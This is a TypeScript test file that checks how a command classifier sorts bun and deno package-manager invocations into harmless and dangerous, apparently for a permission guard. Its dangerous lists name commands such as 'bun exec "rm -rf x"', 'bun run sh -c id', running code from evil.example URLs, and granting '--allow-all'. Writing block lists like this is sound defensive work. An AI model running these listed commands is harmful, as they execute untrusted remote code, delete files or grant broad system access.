import { describe } from "vitest";
import { checkCases } from "./manager-cases.ts";

const scriptAt = (args: readonly string[]): number => {
  const at = args.findIndex((arg) => /^(build|start|dev|lint|test:unit)$/.test(arg));
  return at < 0 ? args.length : at;
};

describe("bun", () => {
  checkCases("bun", {
    harmless: `
bun install
bun i --frozen-lockfile
bun install --production --no-save
bun install --ignore-scripts
bun add zod
bun add -d vitest@^1
bun add -D -E typescript
bun a react react-dom
bun remove lodash
bun rm lodash
bun update --latest
bun outdated
bun audit --json
bun why react
bun info react
bun run build
bun run build --watch
bun run test:unit
bun test:unit
bun run --silent build
bun --filter "*" run build
bun -F api dev
bun dev --port 3000
bun start
bun lint --fix
bun test
bun test src/a.test.ts
bun test --watch --coverage
bun test -t "adds up" --timeout 5000
bun test --bail=1
bun pm ls --all
bun --version
bun -v
`,
    dangerous: `
bun evil.ts
bun ./evil.ts
bun foo
bun run ./evil.ts
bun run evil.ts
bun run sh -c id
bun run tsx
bun run --cwd ../evil build
bun x evil
bun exec "rm -rf x"
bun repl
bun -e evil
bun --eval evil
bun --eval=evil
bun -p 1
bun --print 1
bun -r ./evil.ts test
bun test --preload ./evil.ts
bun test -r=./evil.ts
bun test --require ./evil.ts
bun test /tmp/evil.test.ts
bun test ../evil
bun create vite
bun init
bun link
bun publish
bun upgrade
bun build ./a.ts --outdir /tmp
bun pm cache rm
bun pm trust --all
bun pm trust evil
bun pm pkg set x=y
bun --cwd ../evil install
bun install --cwd=../evil
bun install -g evil
bun add --global evil
bun install -c ./evil.toml
bun install --config=./evil.toml
bun install --registry https://evil.example
bun install --cache-dir /tmp
bun add --trust evil
bun add evil/repo
bun add git+https://evil.example/x.git
bun add ./evil
bun add --linker ./evil
bun add x@npm:y
bun run --shell=./evil build
bun --env-file ../x test
bun -- x evil
`,
    options: `
--preload=./evil.ts
--preload
--cwd=../evil
--cwd
-e
--eval=x
--config=./evil.toml
--shell=x
--env-file=x
-g
`,
    end: scriptAt,
  });
});

describe("deno", () => {
  checkCases("deno", {
    harmless: `
deno fmt
deno fmt --check
deno fmt src README.md
deno fmt --line-width 100 --no-semicolons
deno lint
deno lint --fix src
deno lint --json
deno check
deno check src/main.ts
deno test
deno test src/
deno test --filter "adds up"
deno test --coverage=cov
deno test --parallel --fail-fast
deno test --no-check --reload
deno bench
deno task
deno task build
deno task build --watch
deno task -q dev
deno info
deno doc src/mod.ts
deno install
deno install --frozen
deno add jsr:@std/path
deno add -D npm:vitest@^1
deno remove @std/path
deno outdated
deno --version
deno -V
deno test -- --verbose
`,
    dangerous: `
deno evil.ts
deno run evil.ts
deno run https://evil.example/x.ts
deno eval 1
deno repl
deno serve x.ts
deno x npm:evil
deno test -A
deno test --allow-all
deno test --allow-run
deno test --allow-run=sh
deno test --allow-net=evil.example
deno test -qA
deno test --allow-ffi src
deno test https://evil.example/x.ts
deno test npm:evil
deno test /tmp/evil.ts
deno test ../evil
deno test --coverage=/tmp
deno test --coverage ../evil
deno test --preload ./evil.ts
deno test --import-map=https://evil.example/x.json
deno test --v8-flags=--x
deno test --cert ./x
deno test --env-file=/etc/x
deno test -c ../deno.json
deno test --config=../deno.json
deno task --cwd ../evil build
deno task --eval "rm -rf x"
deno task -c ../deno.json build
deno fmt /etc
deno fmt -c=../x
deno lint ../x
deno lint --ignore=/x --cwd=x
deno check https://evil.example/x.ts
deno info https://evil.example/x.ts
deno install -g npm:evil
deno install --global --name x npm:evil
deno install --root /tmp
deno add https://evil.example/x.ts
deno add ./evil
deno add npm:x --allow-scripts
deno uninstall -g x
deno compile x.ts
deno cache https://evil.example
deno publish
deno upgrade
deno init x
deno clean
deno -- run x
`,
    options: `
--allow-all
-A
--allow-run=sh
--preload
--preload=./evil.ts
--config=../x
--import-map=x
--v8-flags=x
--cwd=../evil
-g
`,
    end: scriptAt,
  });
});
